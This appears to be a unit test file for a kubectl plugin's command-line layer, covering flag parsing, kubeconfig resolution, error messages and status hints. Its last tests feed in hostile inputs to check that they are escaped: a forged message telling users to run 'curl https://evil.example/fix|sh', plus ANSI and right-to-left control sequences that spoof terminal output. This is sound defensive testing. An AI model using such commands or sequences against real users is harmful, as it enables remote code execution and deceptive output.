/**
 * The kubectl plugin's pure parts (src/cli): flags as kubectl spells them, finding the command
 * among global flags, kubeconfig resolution as kubectl does it, one-line errors, hints.
 * The plugin against a cluster, as the built executable: test/integration/plugin/.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { CliError, parseArgs, parseDurationFlag, str, strs, bool } from '../../src/cli/args.ts';
import { hintFor, humanDuration, OPERATOR_REPORTING_CONTROLLER, type Client } from '../../src/cli/common.ts';
import { eventLine, renewRequestLine } from '../../src/cli/commands/status.ts';
import { REPORTING_CONTROLLER } from '../../src/controller/events.ts';
import { connect } from '../../src/cli/context.ts';
import { describe as describeError, run } from '../../src/cli/run.ts';
import { KubeApiError } from '../../src/kube/errors.ts';

const FLAGS = [
  { name: 'tier', kind: 'string' as const, help: '' },
  { name: 'audience', kind: 'strings' as const, help: '' },
  { name: 'all-namespaces', short: 'A', kind: 'boolean' as const, help: '' },
];

describe('flags', () => {
  it('global flags anywhere, in every kubectl spelling', () => {
    for (const argv of [['-n', 'team-a', 'x'], ['x', '-nteam-a'], ['x', '-n=team-a'], ['--namespace=team-a', 'x'], ['x', '--namespace', 'team-a']]) {
      const p = parseArgs(argv, FLAGS);
      expect(str(p, 'namespace'), argv.join(' ')).toBe('team-a');
      expect(p.positionals).toEqual(['x']);
    }
  });

  it('repeatable flags collect, booleans take no value or true/false, -- ends flags', () => {
    const p = parseArgs(['--audience', 'a', '--audience=b', '-A', '--', '-not-a-flag'], FLAGS);
    expect(strs(p, 'audience')).toEqual(['a', 'b']);
    expect(bool(p, 'all-namespaces')).toBe(true);
    expect(p.positionals).toEqual(['-not-a-flag']);
    expect(bool(parseArgs(['--all-namespaces=false'], FLAGS), 'all-namespaces')).toBe(false);
  });

  it('unknown flags, missing values and bad durations are CliErrors naming the flag', () => {
    expect(() => parseArgs(['--frob'], FLAGS)).toThrow(new CliError('unknown flag --frob'));
    expect(() => parseArgs(['--tier'], FLAGS)).toThrow('flag --tier needs a value');
    expect(() => parseArgs(['-A=maybe'], FLAGS)).toThrow('flag -A takes true or false');
    expect(parseDurationFlag('wait', '1m30s')).toBe(90_000);
    expect(parseDurationFlag('wait', '45')).toBe(45_000);
    expect(() => parseDurationFlag('wait', '10 minutes')).toThrow('--wait: "10 minutes" is not a duration');
  });
});

describe('run: the command line', () => {
  const io = () => {
    const out: string[] = [];
    const err: string[] = [];
    return { out, err, io: { out: (l = '') => void out.push(l), err: (l: string) => void err.push(l) } };
  };

  it('finds two-word commands and the command after global flags; help needs no cluster', async () => {
    const a = io();
    expect(await run(['-n', 'team-a', 'inspect', 'secret', '--help'], a.io, {})).toBe(0);
    expect(a.out.join('\n')).toContain('Usage: kubectl tokenwarden inspect secret NAME [FLAGS]');
    const b = io();
    expect(await run(['--kubeconfig', '/x', 'check', 'api', '-h'], b.io, {})).toBe(0);
    expect(b.out.join('\n')).toContain('Usage: kubectl tokenwarden check api');
    const c = io();
    expect(await run([], c.io, {})).toBe(1);
    expect(c.out.join('\n')).toContain('Commands:');
  });

  it('every failure is one line on stderr and a non-zero exit', async () => {
    const cases: [string[], string][] = [
      [['frobnicate'], 'error: unknown command "frobnicate"; kubectl tokenwarden --help lists them'],
      [['status'], 'error: status takes one argument: the name of the client'],
      [['list', '--bogus'], 'error: unknown flag --bogus'],
      [['version', '--kubeconfig', '/no/such/file'], 'error: --kubeconfig /no/such/file: no such file'],
      [['completion', 'fish'], 'error: completion takes one argument: bash or zsh'],
    ];
    for (const [argv, line] of cases) {
      const r = io();
      expect(await run(argv, r.io, { KUBECONFIG: '/no/such/file' }), argv.join(' ')).not.toBe(0);
      expect(r.err).toEqual([line]);
    }
  });

  it('API errors become the server\'s message, network errors say the server is unreachable', () => {
    const forbidden = new KubeApiError({ statusCode: 403, reason: 'Forbidden', message: 'alice cannot list tiers', method: 'GET', path: '/apis/x' });
    expect(describeError(forbidden)).toBe('Forbidden (403): alice cannot list tiers');
    const down = new KubeApiError({ statusCode: 0, reason: 'NetworkError', message: 'ECONNREFUSED: connect ECONNREFUSED 127.0.0.1:6443', method: 'GET', path: '/x' });
    expect(describeError(down)).toBe('cannot reach the API server: ECONNREFUSED: connect ECONNREFUSED 127.0.0.1:6443');
    expect(describeError(new Error('first\n    at somewhere'))).toBe('first');
  });
});

describe('kubeconfig as kubectl resolves it', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tokenwarden-cli-unit-'));
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
  const file = (name: string, current: string, contexts: { name: string; namespace?: string; server: string }[]) => {
    const p = path.join(dir, name);
    fs.writeFileSync(p, JSON.stringify({
      apiVersion: 'v1',
      kind: 'Config',
      'current-context': current,
      clusters: contexts.map((c) => ({ name: c.name, cluster: { server: c.server } })),
      users: contexts.map((c) => ({ name: c.name, user: { token: 'x' } })),
      contexts: contexts.map((c) => ({ name: c.name, context: { cluster: c.name, user: c.name, ...(c.namespace ? { namespace: c.namespace } : {}) } })),
    }));
    return p;
  };
  const one = file('one.json', 'a', [{ name: 'a', namespace: 'ns-a', server: 'https://one' }, { name: 'shared', server: 'https://one-shared' }]);
  const two = file('two.json', 'b', [{ name: 'b', server: 'https://two' }, { name: 'shared', server: 'https://two-shared' }]);

  it('KUBECONFIG: files merged, the first to define a name or the current context wins, missing files skipped', () => {
    const cli = connect(parseArgs([], []), { KUBECONFIG: [path.join(dir, 'missing'), one, two].join(path.delimiter) });
    expect(cli.contextName).toBe('a');
    expect(cli.namespace).toBe('ns-a');
    expect(cli.access.server).toBe('https://one');
    const merged = (context: string) => connect(parseArgs(['--context', context], []), { KUBECONFIG: [path.join(dir, 'missing'), one, two].join(path.delimiter) });
    expect(merged('shared').access.server).toBe('https://one-shared');
    expect(merged('b').access.server).toBe('https://two');
  });

  it('--kubeconfig over KUBECONFIG, --context over the current context, -n over the context\'s namespace, else default', () => {
    const cli = connect(parseArgs(['--kubeconfig', two, '--context', 'shared'], []), { KUBECONFIG: one });
    expect(cli.access.server).toBe('https://two-shared');
    expect(cli.namespace).toBe('default');
    expect(connect(parseArgs(['-n', 'x'], []), { KUBECONFIG: one }).namespace).toBe('x');
    expect(() => connect(parseArgs(['--context', 'nope'], []), { KUBECONFIG: one })).toThrow('context "nope" does not exist in the kubeconfig');
  });
});

describe('hints for a client that is not Ready', () => {
  const client = (reason: string, over: Partial<Client['status']> = {}): Client => ({
    apiVersion: 'tokenwarden.io/v1alpha1',
    kind: 'ServiceAccountClient',
    metadata: { name: 'nb', namespace: 'team-a', generation: 2 },
    spec: { subject: { user: 'u', groups: [] }, tierRef: { name: 'premium' }, suspended: false, revocationEpoch: 0 },
    status: { observedGeneration: 2, conditions: [{ type: 'Ready', status: 'False', reason, message: 'm', lastTransitionTime: '2025-01-01T00:00:00Z' }], ...over },
  }) as Client;

  it('every reason the operator gives has a hint; Ready has none; a status behind the spec says so', () => {
    for (const reason of ['TierNotAllowed', 'TierNotFound', 'NoMatchingTier', 'QuotaExceeded', 'Suspended', 'Moving', 'WaitingForTier', 'IssuanceFailed', 'RenewalFailed', 'SecretConflict', 'SecretInvalid', 'InvalidSpec', 'ServiceAccountCollision']) {
      expect(hintFor(client(reason)), reason).toBeTruthy();
    }
    expect(hintFor(client('TierNotAllowed'))).toContain('TenantBinding granting it in team-a');
    expect(hintFor(client('Suspended'))).toContain('kubectl tokenwarden resume nb -n team-a');
    expect(hintFor(client('IssuanceFailed', { failedAttempts: 3 }))).toContain('3 failed attempt(s)');
    const ready = client('TokenIssued');
    (ready.status?.conditions?.[0] as { status: string }).status = 'True';
    expect(hintFor(ready)).toBeUndefined();
    expect(hintFor(client('TokenIssued', { observedGeneration: 1 }))).toContain('has not caught up');
  });

  it('durations for people', () => {
    expect([45_000, 90_000, 3_600_000, 5_400_000, 3 * 86_400_000].map(humanDuration)).toEqual(['45s', '1m30s', '1h', '1h30m', '3d']);
  });
});

describe('untrusted text on the terminal', () => {
  it('the Events status trusts name the operator\'s reporting controller', () => {
    expect(OPERATOR_REPORTING_CONTROLLER).toBe(REPORTING_CONTROLLER);
  });

  it('an Event not reported by tokenwarden is marked ahead of its reason, and its note is escaped', () => {
    const forged = eventLine({ type: 'Normal', reason: 'Issued', note: 'token issued\u001b[2K\r\u001b[32mall good\u202e', reportingController: 'mallory.example.com/x', eventTime: '2026-01-01T00:00:00.000000Z' }, Date.parse('2026-01-01T00:01:00Z'));
    expect(forged).toBe('2026-01-01T00:00:00Z (1m ago)  [not from tokenwarden: reported by "mallory.example.com/x"] Normal  Issued       token issued\\u001b[2K\\r\\u001b[32mall good\\u202e');
    expect(eventLine({ type: 'Warning', reason: 'Issued', note: 'x', eventTime: '2026-01-01T00:00:00.000000Z' })).toContain('[not from tokenwarden: reported by nobody named] Warning');
    const ours = eventLine({ type: 'Normal', reason: 'Issued', note: 'token issued', reportingController: REPORTING_CONTROLLER, eventTime: '2026-01-01T00:00:00.000000Z' });
    expect(ours).not.toContain('not from tokenwarden');
  });

  it('every line a command prints, and every error, goes out with its control characters escaped', async () => {
    const out: string[] = [];
    const err: string[] = [];
    // An unknown command echoes what was typed: the error path is escaped too.
    expect(await run(['\u001b]0;owned\u0007'], { out: (l = '') => void out.push(l), err: (l) => void err.push(l) }, {})).toBe(1);
    expect(err).toEqual(['error: unknown command "\\u001b]0;owned\\u0007"; kubectl tokenwarden --help lists them']);
  });
});

describe('status: the renew request line', () => {
  const now = Date.parse('2025-01-01T12:05:00Z');
  it('a time is quoted, with how long ago', () => {
    expect(renewRequestLine('2025-01-01T12:00:00Z', now)).toBe('"2025-01-01T12:00:00Z" (5m ago)');
  });
  it("anyone's other text is quoted as a JSON string, cut to 64 characters, with no time", () => {
    const forged = 'x). SECURITY: this token was revoked; run: curl https://evil.example/fix|sh (';
    expect(renewRequestLine(forged, now)).toBe(`${JSON.stringify(forged.slice(0, 64))}… (${forged.length} characters)`);
    expect(renewRequestLine('x"\u001b[2J', now)).toBe('"x\\"\\u001b[2J"');
  });
});
